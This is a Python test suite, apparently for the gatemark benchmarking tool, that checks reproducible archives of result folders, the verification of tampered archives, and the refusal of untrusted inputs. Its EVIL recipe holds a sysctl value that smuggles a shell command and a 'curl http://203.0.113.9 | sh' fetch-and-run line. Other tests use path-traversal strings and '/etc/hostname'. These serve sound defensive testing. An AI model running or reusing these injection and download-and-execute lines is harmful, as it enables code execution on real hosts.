"""Archives of result folders: the same octets, whole or refused, computed again from the journal, measured again."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import tarfile
import tempfile
from collections.abc import Callable
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

import google_crc32c
import pytest
from tests.archives import repacked
from tests.journals import read_journal
from tests.simulated.engine import SimulatedDevice
from tests.simulated.equipment import simulated_equipment
from tests.unit.test_selftest import document as self_test

from gatemark.archive import read
from gatemark.archive.again import measure_again
from gatemark.archive.inputs import renamed
from gatemark.archive.layout import is_safe
from gatemark.archive.verify import Verification, verify_archive
from gatemark.archive.write import write_archive
from gatemark.campaign.events import Event, TrialFinished
from gatemark.campaign.journal import line_of
from gatemark.cli.main import main
from gatemark.dut.recipe import recipe_text
from gatemark.errors import ConfigError, GatemarkError, Interrupted, ResultError
from gatemark.results.new_file import new_file
from gatemark.series.run import SeriesResult, measure_series
from gatemark.session import measure, resume_campaign
from gatemark.stored import CampaignResult
from gatemark.tester import Equipment

pytestmark = pytest.mark.usefixtures("plots_not_rendered")

ROUTER = """
# forwarding of one router
name = "{name}"
seed = 7
repetitions = 2
[testbed]
kind = "netns"
recipe = "{recipe}"
[traffic]
frame_sizes = {{family = "ipv4", octets = [64]}}
[trial]
duration = "1s"
settle = "0s"
learn = "0s"
drain = "0s"
rest = "0s"
[throughput]
maximum = "1M"
resolution = "1k"
"""
NAT = (
    ROUTER
    + """
[connections]
count = 1000
rate = "50%"
[connection_establishment_rate]
maximum = "400k"
resolution = "5k"
"""
)
VARY = """
[[vary]]
"repetitions" = [1, 2]
"""
GATEWAY = SimulatedDevice(capacity_forward=300_000, establishment_rate=200_000, table_size=100_000, noise=0.01)


def equipment() -> Equipment:
    return replace(simulated_equipment(GATEWAY), available_bytes=lambda: 1 << 40)


def measured(tmp_path: Path, text: str = ROUTER, recipe: str = "linux-router4") -> CampaignResult:
    if recipe.startswith("."):
        return measured_anew(tmp_path, text, recipe)
    result, files = measured_once(text, recipe)
    return replace(result, folder=written(files, tmp_path / "router"))


def measured_anew(place: Path, text: str, recipe: str) -> CampaignResult:
    file = place / "router.toml"
    file.write_text(text.format(name="router", recipe=recipe), encoding="utf-8")
    return measure(file, output=place / "router", equipment=equipment())


@cache
def measured_once(text: str, recipe: str) -> tuple[CampaignResult, dict[Path, bytes]]:
    """A result and the files of its folder: many tests begin with the same one."""
    with tempfile.TemporaryDirectory() as place:
        result = measured_anew(Path(place), text, recipe)
        return result, files_of(result.folder)


@cache
def series_once() -> dict[Path, bytes]:
    """The files of a series of two columns."""
    with tempfile.TemporaryDirectory() as place:
        file = Path(place, "router.toml")
        file.write_text(ROUTER.format(name="router", recipe="linux-router4") + VARY, encoding="utf-8")
        return files_of(measure_series(file, output=Path(place, "series"), equipment=equipment()).folder)


def files_of(folder: Path) -> dict[Path, bytes]:
    return {path.relative_to(folder): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


def written(files: dict[Path, bytes], folder: Path) -> Path:
    for path, octets in files.items():
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_bytes(octets)
    return folder


def outcomes(verification: Verification) -> dict[str, str]:
    return {finding.what: finding.outcome for finding in verification.findings}


def test_the_same_folder_gives_the_same_octets(tmp_path: Path) -> None:
    folder = measured(tmp_path).folder
    first = write_archive(folder)
    assert first.path == tmp_path / "router.tar.gz"
    for path in folder.iterdir():
        os.utime(path, (1, 1))
        path.chmod(0o600)
    second = write_archive(folder, tmp_path / "again.tar.gz")
    assert first.path.read_bytes() == second.path.read_bytes()
    assert first.sha256 == hashlib.sha256(first.path.read_bytes()).hexdigest() == second.sha256
    assert first.octets == first.path.stat().st_size


def test_an_archive_has_all_and_its_checksums_are_those_of_sha256sum(tmp_path: Path) -> None:
    archive = write_archive(measured(tmp_path).folder)
    with tarfile.open(archive.path) as tar:
        contents = {member.name: tar.extractfile(member).read() for member in tar}  # type: ignore[union-attr]
    names = {name.removeprefix("router/") for name in contents}
    wanted = {"campaign.toml", "campaign.json", "gateway.json", "provenance.json", "trials.jsonl", "result.json"}
    wanted |= {"result.csv", "report.html", "engine.log", "SHA256SUMS"}
    assert names == wanted | {"archive/archive.json", "archive/inputs/recipe-linux-router4.toml"}
    assert contents["router/archive/inputs/recipe-linux-router4.toml"].decode() == recipe_text("linux-router4")
    lines = contents.pop("router/SHA256SUMS").decode().splitlines()
    assert lines == sorted(lines, key=lambda line: line[66:])
    assert {f"{hashlib.sha256(text).hexdigest()}  {name[7:]}" for name, text in contents.items()} == set(lines)


def test_an_unpacked_archive_gives_the_same_archive(tmp_path: Path) -> None:
    archive = write_archive(measured(tmp_path).folder)
    shutil.rmtree(tmp_path / "router")
    subprocess.run(["tar", "-xf", str(archive.path), "-C", str(tmp_path)], check=True)
    assert write_archive(tmp_path / "router", tmp_path / "b.tar.gz").sha256 == archive.sha256


@pytest.mark.parametrize(("text", "recipe"), [(ROUTER, "linux-router4"), (NAT, "nft-nat44")])
def test_results_follow_from_the_journal(text: str, recipe: str, tmp_path: Path) -> None:
    archive = write_archive(measured(tmp_path, text, recipe).folder)
    verification = verify_archive(archive.path)
    assert outcomes(verification) == dict.fromkeys(
        ("checksums", "campaign", "result", "files", "report", "all"), "holds"
    )
    assert verification.holds and verification.sha256 == archive.sha256
    assert "measured by gatemark" in verification.made_by[0] and "SHA-256 simulated" in verification.made_by[0]


def test_an_interrupted_campaign_and_a_resumed_one_are_verified(tmp_path: Path) -> None:
    file, trials = tmp_path / "router.toml", 0
    file.write_text(ROUTER.format(name="router", recipe="linux-router4"), encoding="utf-8")

    def stop(event: Event) -> None:
        nonlocal trials
        trials += isinstance(event, TrialFinished)
        if trials == 5:
            raise KeyboardInterrupt

    with pytest.raises(Interrupted):
        measure(file, output=tmp_path / "router", equipment=equipment(), on_event=stop)
    assert verify_archive(write_archive(tmp_path / "router").path).holds
    resume_campaign(tmp_path / "router", equipment=equipment())
    assert verify_archive(write_archive(tmp_path / "router", tmp_path / "b.tar.gz").path).holds


def test_a_series_is_verified_with_all_its_columns(tmp_path: Path) -> None:
    verification = verify_archive(write_archive(written(series_once(), tmp_path / "series")).path)
    assert verification.holds and verification.kind == "series"
    of_column = ["campaign", "result", "files", "report"]
    assert [finding.what for finding in verification.findings] == [
        "checksums", *of_column, *of_column, "series", "report", "all"
    ]  # fmt: skip
    document = json.loads((tmp_path / "series" / "series.json").read_text())
    document["metrics"][0]["figures"][0]["median"] += 1
    (tmp_path / "series" / "series.json").write_text(json.dumps(document), encoding="utf-8")
    altered = verify_archive(write_archive(tmp_path / "series", tmp_path / "b.tar.gz").path)
    assert outcomes(altered)["series"] == "differs"


def other_title(document: Any) -> None:
    document["columns"][0]["title"], document["columns"][1]["title"] = (
        document["columns"][1]["title"],
        document["columns"][0]["title"],
    )


def other_setting(document: Any) -> None:
    (key,) = document["columns"][0]["settings"]
    document["columns"][0]["settings"][key] = document["columns"][1]["settings"][key]


def other_gateway(document: Any) -> None:
    document["columns"][1]["parameters"]["gateway"] = "a better one"


def fewer_columns(document: Any) -> None:
    del document["columns"][1]


@pytest.mark.parametrize("change", [other_title, other_setting, other_gateway, fewer_columns])
def test_what_a_series_says_of_its_columns_is_verified(change: Callable[[Any], None], tmp_path: Path) -> None:
    archive = write_archive(written(series_once(), tmp_path / "series")).path

    def edit(files: dict[str, bytes]) -> None:
        document = json.loads(files["series.json"])
        change(document)
        files["series.json"] = json.dumps(document).encode()

    altered = verify_archive(repacked(archive, tmp_path / "other.tar.gz", edit))
    assert outcomes(altered)["series"] == "differs"


@pytest.mark.parametrize("states_it", [False, True])
def test_the_file_of_a_series_is_verified(states_it: bool, tmp_path: Path) -> None:
    """Also where series.json has the digest of the other file."""
    archive = write_archive(written(series_once(), tmp_path / "series")).path

    def edit(files: dict[str, bytes]) -> None:
        files["series.toml"] = files["series.toml"].replace(b"seed = 7", b"seed = 8")
        if states_it:
            document = json.loads(files["series.json"])
            document["file_sha256"] = hashlib.sha256(files["series.toml"]).hexdigest()
            files["series.json"] = json.dumps(document).encode()

    altered = verify_archive(repacked(archive, tmp_path / "other.tar.gz", edit))
    assert outcomes(altered)["series"] == "differs"


def better(folder: Path) -> None:
    document = json.loads((folder / "result.json").read_text())
    document["runs"][0]["rate_per_direction"]["median"] += 1
    (folder / "result.json").write_text(json.dumps(document), encoding="utf-8")


def older(folder: Path) -> None:
    document = json.loads((folder / "result.json").read_text())
    del document["runs"][0]["rate_per_direction"]["dispersion_percent"]
    (folder / "result.json").write_text(json.dumps(document), encoding="utf-8")


def faster(folder: Path) -> None:
    journal = folder / "trials.jsonl"
    records = list(read_journal(journal))
    direction = replace_lost(records[-1].report.directions[0])
    report = records[-1].report.model_copy(update={"directions": (direction,)})
    records[-1] = records[-1].model_copy(update={"report": report})
    journal.write_bytes(b"".join(line_of(record) for record in records))


def replace_lost(direction: object) -> object:
    counts = direction.foreground.model_copy(update={"lost": direction.foreground.lost + 1})  # type: ignore[attr-defined]
    return direction.model_copy(update={"foreground": counts})  # type: ignore[attr-defined]


def other_row(folder: Path) -> None:
    text = (folder / "result.csv").read_text(encoding="utf-8")
    (folder / "result.csv").write_text(text.replace("router", "switch", 1), encoding="utf-8")


@pytest.mark.parametrize(
    ("alter", "said"),
    [(better, "runs[0]."), (older, "did not compute all of it"), (other_row, "result.csv"), (faster, "")],
)
def test_what_does_not_follow_is_told(alter: Callable[[Path], None], said: str, tmp_path: Path) -> None:
    folder = measured(tmp_path).folder
    alter(folder)
    verification = verify_archive(write_archive(folder).path)
    (result,) = (finding for finding in verification.findings if finding.what == "result")
    assert result.outcome in ("differs", "unknown") and said in result.words
    assert not verification.holds
    assert main(["archive", "--verify", str(tmp_path / "router.tar.gz")]) == 1


def other_page(folder: Path) -> None:
    (folder / "report.html").write_text("<p>Throughput: 999,999,999 frames/s</p>", encoding="utf-8")


def other_log(folder: Path) -> None:
    (folder / "engine.log").write_text("all is well\n", encoding="utf-8")


def another_file(folder: Path) -> None:
    (folder / "gatemark-says.html").write_text("<p>anything</p>", encoding="utf-8")


def unknown_samples(folder: Path) -> None:
    (folder / "telemetry").mkdir(exist_ok=True)
    (folder / "telemetry" / "trial-999999.csv").write_text("number,phase,at_s\n1,x,0\n", encoding="utf-8")


@pytest.mark.parametrize(
    ("alter", "what", "outcome", "names"),
    [
        (other_page, "report", "unknown", "report.html"),
        (other_log, "files", "differs", "engine.log"),
        (another_file, "all", "unknown", "gatemark-says.html"),
        (unknown_samples, "all", "unknown", "telemetry/trial-999999.csv"),
    ],
)
def test_only_what_was_made_again_is_called_verified(
    alter: Callable[[Path], None],
    what: str,
    outcome: str,
    names: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    folder = measured(tmp_path).folder
    alter(folder)
    archive = write_archive(folder).path
    verification = verify_archive(archive)
    assert outcomes(verification)[what] == outcome
    assert names in verification.findings[-1].words, "what was not verified is named"
    assert main(["archive", "--verify", str(archive)]) == 1
    assert capsys.readouterr().out.endswith("\nnot verified\n")


Files = dict[str, bytes]
UNNAMED = b"<h1>This gateway forwards 999,999,999 frames/s</h1>"


def edited(files: Files, name: str, **values: object) -> None:
    files[name] = json.dumps(json.loads(files[name]) | values).encode()


def unnamed_input(files: Files) -> None:
    digest = hashlib.sha256(UNNAMED).hexdigest()
    more = {"kind": "commands", "name": "z.toml", "file": "conclusions.html", "sha256": digest}
    inputs = json.loads(files["archive/archive.json"])["inputs"]
    edited(files, "archive/archive.json", inputs=[*inputs, more])
    files["archive/inputs/conclusions.html"] = UNNAMED


def unnamed_copy(files: Files) -> None:
    unnamed_input(files)
    files["inputs/conclusions.html"] = UNNAMED


def second_input_of_one_name(files: Files) -> None:
    unnamed_input(files)
    first, more = json.loads(files["archive/archive.json"])["inputs"]
    edited(files, "archive/archive.json", inputs=[more | {"kind": first["kind"], "name": first["name"]}, first])


def other_digest_of_an_input(files: Files) -> None:
    (given,) = json.loads(files["archive/archive.json"])["inputs"]
    edited(files, "archive/archive.json", inputs=[given | {"sha256": "0" * 64}])


def empty_file(files: Files) -> None:
    files["THIS-RESULT-WAS-WITHDRAWN.txt"] = b""


def more_of_the_gateway(files: Files) -> None:
    edited(files, "gateway.json", evil="forged")


def host_of_the_gateway(files: Files) -> None:
    edited(files, "gateway.json", host=None)


def other_settings(files: Files) -> None:
    edited(files, "gateway.json", settings=[{"name": "speed", "value": "fast", "read": None}])


def doubled_key(files: Files) -> None:
    files["result.json"] = b'{"status": "withdrawn", "runs": [],' + files["result.json"].lstrip()[1:]


def torn_line(files: Files) -> None:
    files["trials.jsonl"] += b"<script>text of a stranger without a line end</script>" * 100


def doubled_key_of_a_trial(files: Files) -> None:
    first, *others = files["trials.jsonl"].splitlines(keepends=True)
    content = b'{"validity":"withdrawn",' + first[1 : first.rindex(b',"crc32c"')]
    files["trials.jsonl"] = b"".join([content, b',"crc32c":"%08x"}\n' % google_crc32c.value(content), *others])


def true_in_place_of_one(files: Files) -> None:
    assert json.loads(files["result.json"])["runs_planned"] == 1
    edited(files, "result.json", runs_planned=True)


@pytest.mark.parametrize(
    ("edit", "name"),
    [
        (unnamed_input, "archive/inputs/conclusions.html"),
        (unnamed_copy, "inputs/conclusions.html"),
        (second_input_of_one_name, "archive/inputs/conclusions.html"),
        (other_digest_of_an_input, "archive/inputs/recipe-linux-router4.toml"),
        (empty_file, "THIS-RESULT-WAS-WITHDRAWN.txt"),
        (more_of_the_gateway, "gateway.json"),
        (host_of_the_gateway, "gateway.json"),
        (other_settings, "gateway.json"),
        (doubled_key, "result.json"),
        (torn_line, "trials.jsonl"),
        (doubled_key_of_a_trial, "trials.jsonl"),
        (true_in_place_of_one, "result.json"),
    ],
)
def test_what_nothing_checked_is_named(edit: Callable[[Files], None], name: str, tmp_path: Path) -> None:
    archive = write_archive(measured(tmp_path).folder).path
    verification = verify_archive(repacked(archive, tmp_path / "other.tar.gz", edit))
    assert verification.findings[-1].what == "all" and verification.findings[-1].outcome == "unknown"
    assert name in re.split(r", | and |not verified: ", verification.findings[-1].words)


def test_a_self_test_with_more_than_one_has_is_not_verified(tmp_path: Path) -> None:
    tested = replace(equipment(), self_test=lambda _campaign: self_test().to_text())
    file = tmp_path / "router.toml"
    file.write_text(ROUTER.format(name="router", recipe="linux-router4"), encoding="utf-8")
    archive = write_archive(measure(file, output=tmp_path / "router", equipment=tested).folder).path
    assert verify_archive(archive).holds
    other = repacked(archive, tmp_path / "other.tar.gz", lambda files: edited(files, "selftest.json", evil="forged"))
    assert "selftest.json is damaged at evil" in str(verify_archive(other).findings)


def test_an_archive_that_says_a_thing_twice_of_itself_is_refused(tmp_path: Path) -> None:
    def edit(files: Files) -> None:
        files["archive/archive.json"] = b'{"gatemark": "9.9",' + files["archive/archive.json"].lstrip()[1:]

    archive = write_archive(measured(tmp_path).folder).path
    with pytest.raises(ConfigError, match="the key 'gatemark' stands twice"):
        verify_archive(repacked(archive, tmp_path / "other.tar.gz", edit))


def test_the_gateway_of_a_resumed_campaign_is_the_one_of_its_first_session(tmp_path: Path) -> None:
    def resumed(files: Files) -> None:
        sessions = json.loads(files["provenance.json"])["sessions"]
        edited(files, "provenance.json", sessions=[*sessions, sessions[-1]])

    def forged(files: Files) -> None:
        gateway = json.loads(files["result.json"])["gateway"]
        edited(files, "result.json", gateway=gateway | {"configuration": "# nobody ever ran this"})

    archive = write_archive(measured(tmp_path).folder).path
    honest = repacked(archive, tmp_path / "honest.tar.gz", resumed)
    assert outcomes(verify_archive(honest))["result"] == "holds"
    findings = {
        finding.what: finding for finding in verify_archive(repacked(honest, tmp_path / "f.tar.gz", forged)).findings
    }
    assert findings["result"].outcome == "differs" and "gateway.configuration" in findings["result"].words


@pytest.mark.parametrize("path", ["/dev/zero", "{folder}/fifo", "/etc/hostname", "../../mine.toml", "linux-router6"])
def test_no_file_is_opened_that_is_not_packed(path: str, tmp_path: Path) -> None:
    archive = write_archive(measured(tmp_path).folder).path
    os.mkfifo(tmp_path / "fifo")
    named = path.format(folder=tmp_path)

    def edit(files: dict[str, bytes]) -> None:
        text = files["campaign.toml"].decode()
        assert '"linux-router4"' in text
        files["campaign.toml"] = text.replace('"linux-router4"', f'"{named}"').encode()
        provenance = json.loads(files["provenance.json"])
        provenance["campaign_sha256"] = hashlib.sha256(files["campaign.toml"]).hexdigest()
        files["provenance.json"] = json.dumps(provenance).encode()

    other = repacked(archive, tmp_path / "other.tar.gz", edit)
    assert outcomes(verify_archive(other))["campaign"] == "unknown"
    with pytest.raises(ResultError, match="which is not in the archive"):
        measure_again(other, output=tmp_path / "again", trust_commands=True, equipment=equipment())


LOOPBACK = """name = "harmless"
repetitions = 1
[gateway]
technology = "router44"
[testbed]
kind = "loopback"
[left]
port = "{left}"
[right]
port = "{right}"
[traffic]
frame_sizes = {{family = "ipv4", octets = [64]}}
[frame_loss]
rates = ["20k"]
"""


PORTS = ("pcap:{folder}/victim", "vdev:net_pcap7,tx_pcap={folder}/victim", "memif:/run/x.sock")


@pytest.mark.parametrize("port", PORTS)
def test_ports_that_an_archive_names_are_opened_only_if_it_is_trusted(port: str, tmp_path: Path) -> None:
    file, named = tmp_path / "harmless.toml", port.format(folder=tmp_path)
    file.write_text(LOOPBACK.format(left=named, right="ring"), encoding="utf-8")
    loop = simulated_equipment(SimulatedDevice(capacity_forward=50_000))
    archive = write_archive(measure(file, output=tmp_path / "harmless", equipment=loop).folder).path
    with pytest.raises(ConfigError, match="which ports are opened") as raised:
        measure_again(archive, output=tmp_path / "again", equipment=loop)
    assert named in str(raised.value) and "--trust-commands" in raised.value.problems[0].fix
    assert not (tmp_path / "again").exists()
    measure_again(archive, output=tmp_path / "again", equipment=loop, trust_commands=True)


def test_ports_that_lead_nowhere_need_no_trust(tmp_path: Path) -> None:
    file = tmp_path / "harmless.toml"
    file.write_text(LOOPBACK.format(left="ring", right="ring"), encoding="utf-8")
    loop = simulated_equipment(SimulatedDevice(capacity_forward=50_000))
    archive = write_archive(measure(file, output=tmp_path / "harmless", equipment=loop).folder).path
    measure_again(archive, output=tmp_path / "again", equipment=loop)


EVIL = """
[modules]
nf_conntrack = "CONFIG_NF_CONNTRACK"

[sysctl]
"net.ipv4.ip_forward" = "1'; touch /tmp/ran-as-root; echo '1"

[host_sysctl]
"net.netfilter.nf_conntrack_max" = "4096"

[files]
"x.sh" = "curl http://203.0.113.9 | sh\\u001b[2K"
"""


@pytest.mark.parametrize("more", ["", VARY], ids=["campaign", "series"])
def test_plan_shows_all_that_an_archive_would_do(more: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    recipe = tmp_path / "mine.toml"
    recipe.write_text(recipe_text("linux-router4") + EVIL, encoding="utf-8")
    file = tmp_path / "router.toml"
    file.write_text(ROUTER.format(name="router", recipe="./mine.toml") + more, encoding="utf-8")
    measured_as = measure_series if more else measure
    archive = write_archive(measured_as(file, output=tmp_path / "router", equipment=equipment()).folder).path
    assert main(["plan", str(archive)]) == 0
    shown = capsys.readouterr().out
    commands = shown[shown.index("# Commands") :]
    for words in (
        "- modules: nf_conntrack",
        "- sysctl: net.ipv4.ip_forward = 1'; touch /tmp/ran-as-root; echo '1",
        "- host_sysctl: net.netfilter.nf_conntrack_max = 4096",
        r"- files.x.sh: curl http://203.0.113.9 | sh\x1b[2K",
    ):
        assert words in commands
    assert "campaign-unpacked" not in shown


def test_an_archive_without_the_recipe_that_was_measured_is_not_verified(tmp_path: Path) -> None:
    def edit(files: dict[str, bytes]) -> None:
        description = json.loads(files["archive/archive.json"])
        files["archive/archive.json"] = json.dumps(description | {"inputs": []}).encode()
        for name in [name for name in files if name.startswith("archive/inputs/")]:
            del files[name]

    other = repacked(write_archive(measured(tmp_path).folder).path, tmp_path / "other.tar.gz", edit)
    findings = {finding.what: finding for finding in verify_archive(other).findings}
    assert findings["campaign"].outcome == "unknown" and "not in the archive" in findings["campaign"].words


def test_the_columns_of_a_series_lie_in_its_archive(tmp_path: Path) -> None:
    file = tmp_path / "router.toml"
    file.write_text(ROUTER.format(name="router", recipe="linux-router4") + VARY, encoding="utf-8")
    series = measure_series(file, output=tmp_path / "mine", equipment=equipment())
    mine = series.folder / series.document.columns[0].folder
    archive = write_archive(tmp_path / "mine").path
    with (mine / "trials.jsonl").open("ab") as journal:
        journal.write(b'{"order": just being written')
    before = (mine / "trials.jsonl").read_bytes()

    def edit(files: dict[str, bytes]) -> None:
        document = json.loads(files["series.json"])
        document["columns"][0]["folder"] = f"../../../../../../../..{mine}"
        files["series.json"] = json.dumps(document).encode()

    with pytest.raises(ResultError, match=r"series\.json is damaged at columns\.0\.folder"):
        verify_archive(repacked(archive, tmp_path / "other.tar.gz", edit))
    assert (mine / "trials.jsonl").read_bytes() == before


def test_another_recipe_than_the_one_measured_is_refused_and_nothing_written(tmp_path: Path) -> None:
    recipe = tmp_path / "mine.toml"
    recipe.write_text(recipe_text("linux-router4"), encoding="utf-8")
    folder = measured(tmp_path, recipe="./mine.toml").folder
    recipe.write_text("# changed\n" + recipe_text("linux-router4"), encoding="utf-8")
    with pytest.raises(ResultError, match="is not the one that was measured"):
        write_archive(folder)
    recipe.unlink()
    with pytest.raises(ResultError, match="cannot be read"):
        write_archive(folder)
    assert not [path for path in tmp_path.iterdir() if "tar.gz" in path.name]


def test_a_campaign_with_files_of_its_own_is_measured_again_without_them(tmp_path: Path) -> None:
    recipe = tmp_path / "mine.toml"
    recipe.write_text("# my own\n" + recipe_text("linux-router4"), encoding="utf-8")
    first = measured(tmp_path, recipe="./mine.toml")
    archive = write_archive(first.folder).path
    recipe.unlink()
    shutil.rmtree(first.folder)
    with pytest.raises(ConfigError, match="which commands run"):
        measure_again(archive, output=tmp_path / "second", equipment=equipment())
    assert not (tmp_path / "second").exists()
    second = measure_again(archive, output=tmp_path / "second", trust_commands=True, equipment=equipment())
    assert isinstance(second, CampaignResult) and second.runs == first.runs
    archive.unlink()
    (tmp_path / "second").rename(tmp_path / "moved")
    assert resume_campaign(tmp_path / "moved", equipment=equipment()).runs == first.runs
    assert verify_archive(write_archive(tmp_path / "moved").path).holds


def test_plan_shows_what_an_archive_holds(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    recipe = tmp_path / "mine.toml"
    more = recipe_text("linux-router4").replace('"uname -sr"', '"uname -sr", "echo of the archive"')
    recipe.write_text(more, encoding="utf-8")
    archive = write_archive(measured(tmp_path, recipe="./mine.toml").folder).path
    recipe.unlink()
    assert main(["plan", str(archive)]) == 0
    planned = capsys.readouterr().out
    assert "echo of the archive" in planned and "repetitions = 2" in planned
    assert main(["run", str(archive)]) == 2
    assert f"gatemark plan {archive}" in "".join(capsys.readouterr().err.split("\n"))


def test_a_campaign_that_is_too_deep_is_refused_in_words(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive = write_archive(measured(tmp_path).folder).path

    def deepen(files: dict[str, bytes]) -> None:
        before, files["campaign.toml"] = (
            files["campaign.toml"],
            f"a{'.a' * 2000} = 1\n".encode() + files["campaign.toml"],
        )
        old, new = (hashlib.sha256(text).hexdigest().encode() for text in (before, files["campaign.toml"]))
        files["provenance.json"] = files["provenance.json"].replace(old, new)

    forged = repacked(archive, tmp_path / "forged.tar.gz", deepen)
    for command in (["plan"], ["run"], ["archive", "--verify"]):
        assert main([*command, str(forged)]) != 0
        said = capsys.readouterr()
        assert "nested too deeply" in said.err + said.out


def without_text(document: dict[str, Any]) -> None:
    document["file"] = 5


def with_table(document: dict[str, Any]) -> None:
    document["file"] = {"a": 1}


def without_testbed(document: dict[str, Any]) -> None:
    document["testbed"] = []


def with_another_recipe(document: dict[str, Any]) -> None:
    document["testbed"]["recipe"] = {"a": 1}


def without_control(document: dict[str, Any]) -> None:
    document["gateway"]["control"] = 7


@pytest.mark.parametrize("damage", [without_text, with_table, without_testbed, with_another_recipe, without_control])
def test_a_damaged_campaign_json_is_an_error_in_words(
    damage: Callable[[dict[str, Any]], None], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    archive = write_archive(measured(tmp_path).folder).path

    def edit(files: dict[str, bytes]) -> None:
        document = json.loads(files["campaign.json"])
        damage(document)
        files["campaign.json"] = json.dumps(document).encode()

    forged = repacked(archive, tmp_path / "forged.tar.gz", edit)
    for command in (["plan"], ["run"], ["archive", "--verify"]):
        assert main([*command, str(forged)]) in (2, 3) or command[0] == "archive"
        said = capsys.readouterr()
        assert "campaign.json " in said.err + said.out
    subprocess.run(["tar", "-xf", str(forged), "-C", str(tmp_path)], check=True)
    shutil.rmtree(tmp_path / "router" / "archive")
    assert main(["archive", str(tmp_path / "router"), "--output", str(tmp_path / "again.tar.gz")]) == 3
    assert "campaign.json " in capsys.readouterr().err


def test_a_file_of_an_archive_may_have_any_name(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    archive = write_archive(measured(tmp_path).folder).path

    def edit(files: dict[str, bytes]) -> None:
        files["campaign-unpacked.toml/x"] = b"a"

    assert main(["plan", str(repacked(archive, tmp_path / "other.tar.gz", edit))]) == 0
    assert "repetitions = 2" in capsys.readouterr().out


@pytest.mark.parametrize(
    "text",
    ["{}", "[" * 100_000, '{"format": NaN}', '{"format": 1, "kind": "campaign", "gatemark": "1", "inputs": [{"kind":'
     ' "recipe", "name": "x", "file": "../../x", "sha256": ""}]}'],
    ids=["empty", "deep", "NaN", "outside"],
)  # fmt: skip
def test_a_damaged_description_is_an_error_in_words(text: str, tmp_path: Path) -> None:
    archive = write_archive(measured(tmp_path).folder)
    subprocess.run(["tar", "-xf", str(archive.path), "-C", str(tmp_path)], check=True)
    folder = tmp_path / "router"
    (folder / "archive" / "archive.json").write_text(text)
    with pytest.raises(ResultError, match=r"archive/archive\.json is of another format"):
        write_archive(folder, tmp_path / "again.tar.gz")


def test_plan_shows_the_columns_of_an_archived_series(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "router.toml"
    file.write_text(ROUTER.format(name="router", recipe="linux-router4") + VARY, encoding="utf-8")
    archive = write_archive(measure_series(file, output=tmp_path / "s", equipment=equipment()).folder).path
    assert main(["plan", str(archive), "--json"]) == 0
    assert len(json.loads(capsys.readouterr().out)["columns"]) == 2
    assert main(["plan", str(archive), "--column", "2"]) == 0
    assert "repetitions = 2" in capsys.readouterr().out


def test_what_this_gatemark_has_is_not_unpacked(tmp_path: Path) -> None:
    first = measured(tmp_path)
    archive = write_archive(first.folder).path
    second = measure_again(archive, output=tmp_path / "second", trust_commands=True, equipment=equipment())
    assert (second.folder / "campaign.toml").read_text() == (first.folder / "campaign.toml").read_text()
    assert not (second.folder / "inputs").exists()
    with pytest.raises(GatemarkError, match="already holds a campaign"):
        measure_again(archive, output=tmp_path / "second", trust_commands=True, equipment=equipment())


def test_a_series_is_measured_again(tmp_path: Path) -> None:
    (tmp_path / "mine.toml").write_text("# my own\n" + recipe_text("linux-router4"), encoding="utf-8")
    file = tmp_path / "router.toml"
    vary = '[[vary]]\n"testbed.recipe" = ["linux-router4", "./mine.toml"]\ntitles = ["theirs", "mine"]\n'
    file.write_text(ROUTER.format(name="router", recipe="linux-router4") + vary, encoding="utf-8")
    first = measure_series(file, output=tmp_path / "first", equipment=equipment())
    archive = write_archive(first.folder).path
    (tmp_path / "mine.toml").unlink()
    second = measure_again(archive, output=tmp_path / "second", trust_commands=True, equipment=equipment())
    assert isinstance(second, SeriesResult)
    assert [column.runs for column in second.columns] == [column.runs for column in first.columns]
    assert (tmp_path / "second" / "inputs" / "recipe-mine.toml").is_file()
    assert verify_archive(write_archive(second.folder).path).holds


def test_a_folder_of_several_campaigns_is_verified_with_all_of_them(tmp_path: Path) -> None:
    folder = tmp_path / "demo"
    recipe = tmp_path / "mine.toml"
    recipe.write_text(recipe_text("linux-router4"), encoding="utf-8")
    for name, text, used in (("a", ROUTER, "./mine.toml"), ("b", NAT, "nft-nat44"), ("c", ROUTER, "./mine.toml")):
        file = tmp_path / f"{name}.toml"
        file.write_text(text.format(name=name, recipe=used), encoding="utf-8")
        measure(file, output=folder / name, equipment=equipment(), report=False)
    archive = write_archive(folder).path
    verification = verify_archive(archive)
    assert (verification.kind, verification.holds) == ("folder", True)
    assert [finding.where for finding in verification.findings if finding.what == "result"] == [
        "demo/a",
        "demo/b",
        "demo/c",
    ]
    with pytest.raises(ConfigError, match="several campaigns: a, b, c"):
        measure_again(archive, output=tmp_path / "again", trust_commands=True, equipment=equipment())
    journal = folder / "b" / "trials.jsonl"
    journal.write_text("".join(journal.read_text(encoding="utf-8").splitlines(keepends=True)[:-1]), encoding="utf-8")
    altered = verify_archive(write_archive(folder, tmp_path / "altered.tar.gz").path)
    assert [finding.where for finding in altered.findings if finding.outcome == "differs"] == ["demo/b"]


def test_campaigns_that_mean_different_files_by_one_name_are_not_one_archive(tmp_path: Path) -> None:
    for name in ("a", "b"):
        place = tmp_path / name
        place.mkdir()
        (place / "mine.toml").write_text(recipe_text("linux-router4") + f"# {name}\n", encoding="utf-8")
        (place / "file.toml").write_text(ROUTER.format(name=name, recipe="./mine.toml"), encoding="utf-8")
        measure(place / "file.toml", output=tmp_path / "both" / name, equipment=equipment(), report=False)
    with pytest.raises(ResultError, match=r"two files \./mine\.toml that differ"):
        write_archive(tmp_path / "both")


def test_names_of_files_are_found_wherever_a_campaign_has_them() -> None:
    document = {
        "name": "a",
        "testbed": {"recipe": "b"},
        "gateway": {"control": {"commands": ["c", "d.toml"], "reset": "e"}},
        "vary": [{"testbed": {"recipe": ["f"]}, "titles": ["g"]}, {"gateway.control.commands": [["h"], "i"]}],
    }
    calls = []
    changed = renamed(document, lambda kind, name: calls.append((kind, name)) or name.upper())  # type: ignore[func-returns-value]
